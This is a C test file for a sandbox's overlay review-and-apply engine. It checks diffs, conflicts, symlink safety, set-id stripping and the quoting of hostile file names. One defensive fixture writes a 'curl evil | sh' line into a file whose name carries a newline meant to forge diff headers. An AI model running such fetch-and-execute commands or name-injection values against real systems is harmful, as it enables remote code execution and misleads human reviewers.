/* The review and apply engine of copy-on-write mounts (backend/local/workspace_*.c) on a real
 * overlay: a child process mounts lower (the "host" tree) + upper in a mount namespace of its
 * own (as root; as an ordinary user inside a user namespace, with userxattr, as a rootless
 * sandbox does) and makes the sandbox's changes through the merged view; the engine then reads
 * upper against lower. Checks: the exact list of changes and their diff, apply makes the host
 * tree equal to the sandbox's view (binary files, symlinks, deletions, modes), a fifo is not
 * created, set-id bits are dropped, a host change since the sandbox saw it is a conflict until
 * overwrite, a host symlink on the way is never followed, and a second review is empty. */
#include <dirent.h>
#include <errno.h>
#include <fcntl.h>
#include <sched.h>
#include <stdio.h>
#include <stdlib.h>
#include <string.h>
#include <sys/file.h>
#include <sys/mount.h>
#include <sys/stat.h>
#include <sys/sysmacros.h>
#include <sys/wait.h>
#include <time.h>
#include <unistd.h>

#include "backend/local/workspace_review.h"
#include "lib/base/util.h"
#include "test.h"

static char root[256], lower[300], upper[300], work[300], merged[300], journal[300];
static bool userxattr;

static void sh(const char *fmt, const char *arg)
{
    char cmd[2048];
    snprintf(cmd, sizeof cmd, fmt, arg, arg, arg, arg);
    if (system(cmd) != 0)
        TEST_FAIL("command failed: %s", cmd);
}

static void put(const char *dir, const char *rel, const char *data, size_t len, mode_t mode)
{
    char p[600];
    snprintf(p, sizeof p, "%s/%s", dir, rel);
    int fd = open(p, O_WRONLY | O_CREAT | O_TRUNC, mode);
    if (fd < 0 || write(fd, data, len) != (ssize_t)len)
        TEST_FAIL("write %s: %s", p, strerror(errno));
    fchmod(fd, mode);
    close(fd);
}

static char *slurp(const char *dir, const char *rel, size_t *len)
{
    static char data[1 << 16];
    char p[600];
    snprintf(p, sizeof p, "%s/%s", dir, rel);
    int fd = open(p, O_RDONLY | O_NOFOLLOW);
    if (fd < 0)
        return NULL;
    ssize_t n = read(fd, data, sizeof data - 1);
    close(fd);
    data[n < 0 ? 0 : n] = '\0';
    if (len)
        *len = n < 0 ? 0 : (size_t)n;
    return data;
}

static void write_map(const char *file, const char *map)
{
    int fd = open(file, O_WRONLY);
    if (fd < 0 || write(fd, map, strlen(map)) < 0)
        _exit(90);
    close(fd);
}

/* Runs fn in a child that sees the overlay at `merged` (its own mount namespace). */
static void as_sandbox(void (*fn)(void))
{
    pid_t pid = fork();
    if (pid == 0) {
        if (getuid() != 0) {
            char map[64];
            unsigned uid = getuid(), gid = getgid();
            if (unshare(CLONE_NEWUSER | CLONE_NEWNS) < 0)
                _exit(91);
            snprintf(map, sizeof map, "0 %u 1", uid);
            write_map("/proc/self/uid_map", map);
            write_map("/proc/self/setgroups", "deny");
            snprintf(map, sizeof map, "0 %u 1", gid);
            write_map("/proc/self/gid_map", map);
        } else if (unshare(CLONE_NEWNS) < 0) {
            _exit(91);
        }
        mount(NULL, "/", NULL, MS_REC | MS_PRIVATE, NULL);
        char opts[1200];
        snprintf(opts, sizeof opts, "lowerdir=%s,upperdir=%s,workdir=%s%s", lower, upper, work,
                 userxattr ? ",userxattr" : "");
        if (mount("overlay", merged, "overlay", 0, opts) < 0) {
            fprintf(stderr, "overlay mount: %s\n", strerror(errno));
            _exit(92);
        }
        if (chdir(merged) < 0)
            _exit(93);
        fn();
        _exit(0);
    }
    int st;
    waitpid(pid, &st, 0);
    if (!WIFEXITED(st) || WEXITSTATUS(st) != 0)
        TEST_FAIL("the sandbox side failed (status %d)", st);
}

static int64_t since_ns;

static void setup(bool with_userxattr)
{
    userxattr = with_userxattr;
    snprintf(root, sizeof root, "/tmp/wsr-XXXXXX");
    if (mkdtemp(root) == NULL)
        TEST_FAIL("mkdtemp");
    chmod(root, 0755);
    snprintf(lower, sizeof lower, "%s/lower", root);
    snprintf(upper, sizeof upper, "%s/upper", root);
    snprintf(work, sizeof work, "%s/work", root);
    snprintf(merged, sizeof merged, "%s/merged", root);
    snprintf(journal, sizeof journal, "%s/%s", root, WS_JOURNAL_NAME);
    sh("mkdir -p %s/lower/src %s/lower/deldir/y %s/lower/repl %s/upper", root);
    sh("mkdir -p %s/work %s/merged", root);
    put(lower, "src/a.c", "int main(void)\n{\n    return 1;\n}\n", 33, 0644);
    put(lower, "bin.dat", "\x00\x01\x02\x03", 4, 0644);
    put(lower, "del.txt", "bye\n", 4, 0644);
    put(lower, "deldir/x", "x\n", 2, 0644);
    put(lower, "deldir/y/z", "z\n", 2, 0644);
    put(lower, "run.sh", "#!/bin/sh\necho hi\n", 18, 0644);
    put(lower, "keep.txt", "same\n", 5, 0644);
    put(lower, "repl/f", "f\n", 2, 0644);
    char p[600];
    snprintf(p, sizeof p, "%s/link", lower);
    if (symlink("src/a.c", p) < 0)
        TEST_FAIL("symlink");
    /* The sandbox sees the tree from now on: older host times are not conflicts. */
    struct timespec pause = {0, 50 * 1000 * 1000};
    nanosleep(&pause, NULL);
    since_ns = now_wall_ms() * 1000000ll;
}

static void teardown(void)
{
    sh("chmod -R u+rwX %s 2>/dev/null; rm -rf %s", root);
}

static void sandbox_changes(void)
{
    int fd = open("src/a.c", O_WRONLY | O_TRUNC);
    if (fd < 0 || write(fd, "int main(void)\n{\n    return 0;\n}\n", 33) != 33)
        _exit(1);
    close(fd);
    fd = open("bin.dat", O_WRONLY | O_TRUNC);
    if (fd < 0 || write(fd, "\x00\xff\x00\xfe\x00", 5) != 5)
        _exit(2);
    close(fd);
    if (unlink("del.txt") < 0 || system("rm -rf deldir") != 0 || chmod("run.sh", 0755) < 0)
        _exit(3);
    if (mkdir("new", 0750) < 0 || system("printf 'n\\n' > new/n.txt") != 0)
        _exit(4);
    if (unlink("link") < 0 || symlink("/tmp/elsewhere", "link") < 0)
        _exit(5);
    if (mkfifo("pipe", 0644) < 0)
        _exit(6);
    if (system("printf 'x' > suid && chmod 4755 suid") != 0)
        _exit(7);
    /* a directory replaced by a file, and the copy-up of an unchanged file */
    if (system("rm -rf repl && printf 'now a file\\n' > repl && touch keep.txt") != 0)
        _exit(8);
}

static void sandbox_sees_its_work(void)
{
    char target[100] = {0};
    struct stat st;
    if (readlink("link", target, sizeof target - 1) < 0 || strcmp(target, "/tmp/elsewhere") != 0)
        _exit(10);
    if (stat("run.sh", &st) < 0 || (st.st_mode & 0777) != 0755 || access("del.txt", F_OK) == 0)
        _exit(11);
    if (lstat("pipe", &st) < 0 || !S_ISFIFO(st.st_mode) || access("deldir", F_OK) == 0)
        _exit(12);
    char *a = slurp(".", "src/a.c", NULL);
    if (a == NULL || strstr(a, "return 0;") == NULL)
        _exit(13);
}

static struct ws_mount mount_of(void)
{
    /* the engine reaches the host directory through this descriptor only (not closed: the
     * test process is short) */
    return (struct ws_mount){.source_fd = open(lower, O_PATH | O_DIRECTORY | O_CLOEXEC),
                             .source = lower,
                             .target = "/workspace/proj",
                             .upper = upper,
                             .journal = journal,
                             .owner_uid = -1,
                             .owner_gid = -1};
}

static struct ws_options opts_of(void)
{
    return (struct ws_options){.since_ns = since_ns,
                               .xattr_prefix = userxattr ? "user.overlay." : "trusted.overlay."};
}

static json_t *review(json_t *paths, uint64_t offset, uint64_t max)
{
    struct ws_mount m = mount_of();
    struct ws_options o = opts_of();
    struct mcp_error err;
    json_t *r = ws_review(&m, 1, &o, paths, offset, max, &err);
    json_decref(paths); /* the callers pass a new list */
    if (r == NULL)
        TEST_FAIL("review: %s", err.msg);
    return r;
}

static json_t *apply(json_t *paths, bool overwrite)
{
    struct ws_mount m = mount_of();
    struct ws_options o = opts_of();
    struct mcp_error err;
    json_t *r = ws_apply(&m, 1, &o, paths, overwrite, &err);
    json_decref(paths); /* the callers pass a new list */
    if (r == NULL)
        TEST_FAIL("apply: %s", err.msg);
    return r;
}

/* "path change type" lines of a review, one per change. */
static char *summary(json_t *r)
{
    static char out[4096];
    out[0] = '\0';
    size_t i;
    json_t *c;
    json_array_foreach(json_object_get(r, "changes"), i, c)
    {
        char line[300];
        snprintf(line, sizeof line, "%s %s %s%s%s\n",
                 json_string_value(json_object_get(c, "path")) + strlen("/workspace/proj/"),
                 json_string_value(json_object_get(c, "change")),
                 json_string_value(json_object_get(c, "type")),
                 json_is_true(json_object_get(c, "binary")) ? " binary" : "",
                 json_is_true(json_object_get(c, "conflict")) ? " conflict" : "");
        strncat(out, line, sizeof out - strlen(out) - 1);
    }
    return out;
}

static const char *expected_changes = "bin.dat modified file binary\n"
                                      "del.txt deleted file\n"
                                      "deldir/x deleted file\n"
                                      "deldir/y/z deleted file\n"
                                      "deldir/y deleted directory\n"
                                      "deldir deleted directory\n"
                                      "link modified symlink\n"
                                      "new added directory\n"
                                      "new/n.txt added file\n"
                                      "pipe added fifo\n"
                                      "repl/f deleted file\n"
                                      "repl modified file\n"
                                      "run.sh mode file\n"
                                      "src/a.c modified file\n"
                                      "suid added file\n";

static void review_lists_exactly_the_changes(bool ux)
{
    setup(ux);
    as_sandbox(sandbox_changes);
    json_t *r = review(NULL, 0, 0);
    ASSERT_STR_EQ(summary(r), expected_changes);
    const char *diff = json_string_value(json_object_get(r, "diff"));
    ASSERT_CONTAINS(diff,
                    "diff --git a/workspace/proj/src/a.c b/workspace/proj/src/a.c\n"
                    "--- a/workspace/proj/src/a.c\n+++ b/workspace/proj/src/a.c\n"
                    "@@ -1,4 +1,4 @@\n int main(void)\n {\n-    return 1;\n+    return 0;\n }\n");
    ASSERT_CONTAINS(diff, "Binary files a/workspace/proj/bin.dat and b/workspace/proj/bin.dat "
                          "differ\n");
    ASSERT_CONTAINS(diff, "diff --git a/workspace/proj/run.sh b/workspace/proj/run.sh\n"
                          "old mode 100644\nnew mode 100755\n");
    ASSERT_CONTAINS(diff, "--- a/workspace/proj/link\n+++ b/workspace/proj/link\n"
                          "@@ -1 +1 @@\n-src/a.c\n\\ No newline at end of file\n"
                          "+/tmp/elsewhere\n\\ No newline at end of file\n");
    ASSERT_CONTAINS(diff, "deleted file mode 100644\n--- a/workspace/proj/deldir/y/z\n"
                          "+++ /dev/null\n@@ -1 +0,0 @@\n-z\n");
    ASSERT(strstr(diff, "keep.txt") == NULL); /* copied up, unchanged */
    ASSERT(json_is_null(json_object_get(r, "next_offset")));
    /* A small page ends after a line, and the pages add up to the whole diff. */
    size_t total = (size_t)json_integer_value(json_object_get(r, "diff_bytes"));
    char *joined = calloc(1, total + 1);
    for (json_int_t off = 0; off >= 0;) {
        json_t *p = review(NULL, (uint64_t)off, 100);
        const char *part = json_string_value(json_object_get(p, "diff"));
        ASSERT(strlen(part) <= 100);
        ASSERT(*part == '\0' || part[strlen(part) - 1] == '\n');
        strcat(joined, part);
        json_t *next = json_object_get(p, "next_offset");
        off = json_is_null(next) ? -1 : json_integer_value(next);
        json_decref(p);
    }
    ASSERT_STR_EQ(joined, diff);
    free(joined);
    /* One file's diff by its path. */
    json_t *only = review(json_pack("[s]", "/workspace/proj/src"), 0, 0);
    ASSERT_STR_EQ(summary(only), "src/a.c modified file\n");
    json_decref(only);
    json_decref(r);
    teardown();
}

TEST(review_trusted_xattrs)
{
    if (getuid() != 0)
        SKIP("trusted.overlay xattrs need root; the userxattr case runs as a user");
    review_lists_exactly_the_changes(false);
}

TEST(review_userxattr)
{
    review_lists_exactly_the_changes(true);
}

static void check_host(void)
{
    struct stat st;
    char p[600];
    size_t n = 0; /* slurp sets it; gcc -O2 cannot see that through the assertion */
    ASSERT_STR_EQ(slurp(lower, "src/a.c", NULL), "int main(void)\n{\n    return 0;\n}\n");
    ASSERT(memcmp(slurp(lower, "bin.dat", &n), "\x00\xff\x00\xfe\x00", 5) == 0 && n == 5);
    snprintf(p, sizeof p, "%s/del.txt", lower);
    ASSERT(lstat(p, &st) < 0 && errno == ENOENT);
    snprintf(p, sizeof p, "%s/deldir", lower);
    ASSERT(lstat(p, &st) < 0 && errno == ENOENT);
    snprintf(p, sizeof p, "%s/run.sh", lower);
    ASSERT(lstat(p, &st) == 0 && (st.st_mode & 07777) == 0755);
    snprintf(p, sizeof p, "%s/new", lower);
    ASSERT(lstat(p, &st) == 0 && S_ISDIR(st.st_mode) && (st.st_mode & 07777) == 0750);
    ASSERT(st.st_uid == getuid());
    ASSERT_STR_EQ(slurp(lower, "new/n.txt", NULL), "n\n");
    char target[100] = {0};
    snprintf(p, sizeof p, "%s/link", lower);
    ASSERT(readlink(p, target, sizeof target - 1) > 0);
    ASSERT_STR_EQ(target, "/tmp/elsewhere");
    snprintf(p, sizeof p, "%s/pipe", lower);
    ASSERT(lstat(p, &st) < 0 && errno == ENOENT);
    snprintf(p, sizeof p, "%s/suid", lower);
    ASSERT(lstat(p, &st) == 0 && (st.st_mode & 07777) == 0755);
    snprintf(p, sizeof p, "%s/repl", lower);
    ASSERT(lstat(p, &st) == 0 && S_ISREG(st.st_mode));
    ASSERT(st.st_uid == getuid());
}

TEST(apply_all_round_trips)
{
    setup(true);
    as_sandbox(sandbox_changes);
    json_t *r = apply(NULL, false);
    ASSERT_EQ(json_integer_value(json_object_get(r, "failed")), 0);
    ASSERT_EQ(json_integer_value(json_object_get(r, "conflicts")), 0);
    ASSERT_EQ(json_integer_value(json_object_get(r, "skipped")), 1); /* the fifo */
    ASSERT_EQ(json_integer_value(json_object_get(r, "applied")), 14);
    check_host();
    json_decref(r);
    /* The sandbox's view is what the host now has: nothing left to review but the fifo. */
    r = review(NULL, 0, 0);
    ASSERT_STR_EQ(summary(r), "pipe added fifo\n");
    json_decref(r);
    /* and the overlay still mounts and shows the same tree */
    as_sandbox(sandbox_sees_its_work);
    teardown();
}

static void sandbox_edits_two(void)
{
    if (system("printf 'sandbox\\n' > keep.txt && printf 'int x;\\n' > src/a.c") != 0)
        _exit(1);
}

static void sandbox_edits_a_again(void)
{
    if (system("printf 'int z;\\n' > src/a.c") != 0)
        _exit(1);
}

TEST(host_change_is_a_conflict_until_overwrite)
{
    setup(true);
    as_sandbox(sandbox_edits_two);
    /* the person edits keep.txt on the host meanwhile */
    put(lower, "keep.txt", "person\n", 7, 0644);
    json_t *r = review(NULL, 0, 0);
    ASSERT_STR_EQ(summary(r), "keep.txt modified file conflict\nsrc/a.c modified file\n");
    json_decref(r);
    r = apply(NULL, false);
    ASSERT_EQ(json_integer_value(json_object_get(r, "conflicts")), 1);
    ASSERT_EQ(json_integer_value(json_object_get(r, "applied")), 1);
    json_t *res = json_object_get(r, "results");
    ASSERT_STR_EQ(json_string_value(json_object_get(json_array_get(res, 0), "status")), "conflict");
    ASSERT_STR_EQ(json_string_value(json_object_get(json_array_get(res, 0), "path")),
                  "/workspace/proj/keep.txt");
    ASSERT_STR_EQ(slurp(lower, "keep.txt", NULL), "person\n");
    ASSERT_STR_EQ(slurp(lower, "src/a.c", NULL), "int x;\n");
    json_decref(r);
    /* An applied path is judged by what the apply left: unchanged since, no conflict... */
    as_sandbox(sandbox_edits_a_again);
    r = review(NULL, 0, 0);
    ASSERT_STR_EQ(summary(r), "keep.txt modified file conflict\nsrc/a.c modified file\n");
    json_decref(r);
    /* ...and a host edit after the apply is one again. */
    put(lower, "src/a.c", "int y;\n", 7, 0644);
    r = review(NULL, 0, 0);
    ASSERT_STR_EQ(summary(r), "keep.txt modified file conflict\nsrc/a.c modified file conflict\n");
    json_decref(r);
    r = apply(json_pack("[s]", "/workspace/proj/keep.txt"), true);
    ASSERT_EQ(json_integer_value(json_object_get(r, "applied")), 1);
    ASSERT_EQ(json_integer_value(json_object_get(r, "conflicts")), 0);
    ASSERT_STR_EQ(slurp(lower, "keep.txt", NULL), "sandbox\n");
    ASSERT_STR_EQ(slurp(lower, "src/a.c", NULL), "int y;\n"); /* not selected */
    json_decref(r);
    teardown();
}

static void sandbox_makes_dir_file(void)
{
    if (system("mkdir -p d && printf 'evil\\n' > d/f") != 0)
        _exit(1);
}

TEST(host_symlink_on_the_way_is_not_followed)
{
    setup(true);
    as_sandbox(sandbox_makes_dir_file);
    /* Between review and apply the host's d became a symlink to a victim directory. */
    char victim[600], p[600];
    snprintf(victim, sizeof victim, "%s/victim", root);
    mkdir(victim, 0755);
    snprintf(p, sizeof p, "%s/d", lower);
    ASSERT(symlink(victim, p) == 0);
    json_t *r = apply(json_pack("[s]", "/workspace/proj/d/f"), true);
    ASSERT_EQ(json_integer_value(json_object_get(r, "failed")), 1);
    ASSERT_CONTAINS(json_string_value(json_object_get(
                        json_array_get(json_object_get(r, "results"), 0), "reason")),
                    "symlink");
    snprintf(p, sizeof p, "%s/f", victim);
    struct stat st;
    ASSERT(lstat(p, &st) < 0 && errno == ENOENT);
    json_decref(r);
    teardown();
}

static void sandbox_adds_600(void)
{
    if (system("mkdir many && cd many && i=0; while [ $i -lt 600 ]; do echo $i > f$i; "
               "i=$((i+1)); done") != 0)
        _exit(1);
}

/* The JSON of a result's list, which ws_list_add keeps within WS_LISTED_BYTES. */
static size_t list_bytes(json_t *list)
{
    size_t n = 0, i;
    json_t *e;
    json_array_foreach(list, i, e)
        n += json_dumpb(e, NULL, 0, JSON_COMPACT) + 1;
    return n;
}

/* A result lists the first entries, at most WS_LISTED_MAX of them and WS_LISTED_BYTES of JSON
 * (an agent's context; the SDK's stdio client drops a message over 10 MiB), and counts the
 * rest; paths narrows the list. */
TEST(long_lists_are_capped_and_counted)
{
    setup(true);
    as_sandbox(sandbox_adds_600);
    json_t *r = review(NULL, 0, 0);
    json_t *listed = json_object_get(r, "changes");
    ASSERT(json_array_size(listed) > 10 && json_array_size(listed) < 601);
    ASSERT(list_bytes(listed) <= WS_LISTED_BYTES);
    ASSERT_STR_EQ(json_string_value(json_object_get(json_array_get(listed, 0), "path")),
                  "/workspace/proj/many"); /* the first ones, in order */
    ASSERT_EQ(json_integer_value(json_object_get(r, "changes_total")), 601);
    ASSERT_CONTAINS(json_string_value(json_object_get(r, "changes_note")), "narrow with paths");
    json_decref(r);
    r = review(json_pack("[s]", "/workspace/proj/many/f599"), 0, 0);
    ASSERT_STR_EQ(summary(r), "many/f599 added file\n");
    json_decref(r);
    r = apply(NULL, false);
    ASSERT_EQ(json_integer_value(json_object_get(r, "applied")), 601);
    ASSERT(json_array_size(json_object_get(r, "results")) < 601);
    ASSERT(list_bytes(json_object_get(r, "results")) <= WS_LISTED_BYTES);
    ASSERT_CONTAINS(json_string_value(json_object_get(r, "results_note")), "601 results");
    ASSERT_STR_EQ(slurp(lower, "many/f599", NULL), "599\n");
    json_decref(r);
    teardown();
}

/* Another process's apply of the same mount (it holds <journal>.lock) is waited for by no one:
 * the second is refused and changes nothing. */
TEST(apply_is_one_at_a_time)
{
    setup(true);
    as_sandbox(sandbox_edits_a_again);
    char lock[700];
    snprintf(lock, sizeof lock, "%s.lock", journal);
    int fd = open(lock, O_RDWR | O_CREAT, 0600);
    ASSERT(fd >= 0 && flock(fd, LOCK_EX) == 0);
    struct ws_mount m = mount_of();
    struct ws_options o = opts_of();
    struct mcp_error err;
    ASSERT(ws_apply(&m, 1, &o, NULL, false, &err) == NULL);
    ASSERT_EQ(err.code, MCP_ERR_CONFLICT);
    ASSERT_CONTAINS(err.msg, "another apply of this sandbox is running");
    ASSERT(strstr(slurp(lower, "src/a.c", NULL), "return 1;") != NULL);
    close(fd);
    json_t *r = apply(NULL, false);
    ASSERT_EQ(json_integer_value(json_object_get(r, "applied")), 1);
    json_decref(r);
    teardown();
}

/* A device node in the sandbox's layer (a sandbox cannot make one: no CAP_MKNOD; a layer
 * written by other means could hold one) is listed as not applicable and never created. */
TEST(device_node_is_not_created)
{
    if (getuid() != 0)
        SKIP("making a device node needs root");
    setup(true);
    char p[600];
    snprintf(p, sizeof p, "%s/null2", upper);
    ASSERT(mknod(p, S_IFCHR | 0666, makedev(1, 3)) == 0);
    json_t *r = review(NULL, 0, 0);
    ASSERT_STR_EQ(summary(r), "null2 added char-device\n");
    ASSERT(json_is_false(
        json_object_get(json_array_get(json_object_get(r, "changes"), 0), "applicable")));
    json_decref(r);
    r = apply(NULL, true);
    ASSERT_EQ(json_integer_value(json_object_get(r, "skipped")), 1);
    ASSERT_EQ(json_integer_value(json_object_get(r, "applied")), 0);
    snprintf(p, sizeof p, "%s/null2", lower);
    struct stat st;
    ASSERT(lstat(p, &st) < 0 && errno == ENOENT);
    json_decref(r);
    teardown();
}

/* The sandbox names its files. A newline in a name printed as is forged header and hunk lines
 * in the review's diff (an added script shown as an edit of another file); a name that is not
 * UTF-8 went unlisted in apply's results. Names are quoted as git quotes them. */
static void sandbox_names_hostile(void)
{
    if (mkdir("x\n+++ b", 0755) < 0 || system("printf 'curl evil | sh\\n' > 'x\n+++ b/y'") != 0)
        _exit(1);
    if (system("printf 'q' > \"$(printf 'bad\\377name')\"") != 0)
        _exit(2);
}

TEST(hostile_names_are_quoted_in_the_diff)
{
    setup(true);
    as_sandbox(sandbox_names_hostile);
    json_t *r = review(NULL, 0, 0);
    const char *diff = json_string_value(json_object_get(r, "diff"));
    ASSERT(diff != NULL);
    ASSERT(strstr(diff, "\n+++ b/y") == NULL); /* no line of the diff comes from a name */
    ASSERT_CONTAINS(diff, "+++ \"b/workspace/proj/x\\n+++ b/y\"\n@@ -0,0 +1 @@\n+curl evil");
    ASSERT_CONTAINS(diff, "diff --git \"a/workspace/proj/bad\\377name\" "
                          "\"b/workspace/proj/bad\\377name\"\n");
    json_decref(r);
    r = apply(NULL, false);
    ASSERT_EQ(json_integer_value(json_object_get(r, "applied")), 3);
    ASSERT_EQ(json_array_size(json_object_get(r, "results")), 3);
    ASSERT_STR_EQ(slurp(lower, "bad\377name", NULL), "q");
    json_decref(r);
    teardown();
}

int main(void)
{
    RUN(review_trusted_xattrs);
    RUN(review_userxattr);
    RUN(apply_all_round_trips);
    RUN(host_change_is_a_conflict_until_overwrite);
    RUN(host_symlink_on_the_way_is_not_followed);
    RUN(device_node_is_not_created);
    RUN(apply_is_one_at_a_time);
    RUN(long_lists_are_capped_and_counted);
    RUN(hostile_names_are_quoted_in_the_diff);
    return test_done();
}
